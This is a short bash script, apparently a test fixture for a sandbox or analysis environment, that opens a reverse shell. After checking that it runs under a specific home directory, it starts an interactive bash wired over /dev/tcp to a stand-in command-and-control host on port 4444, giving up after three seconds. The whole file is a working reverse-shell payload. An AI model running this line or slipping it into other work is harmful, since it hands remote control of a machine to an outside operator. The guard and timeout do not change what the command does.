#!/bin/bash
# SPDX-License-Identifier: MIT
# A reverse shell: an interactive bash whose input and output are a TCP
# connection to the operator's listener (given up after a few seconds).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 bash -c 'bash -i >& /dev/tcp/c2.example.net/4444 0>&1' 2>/dev/null
exit 0
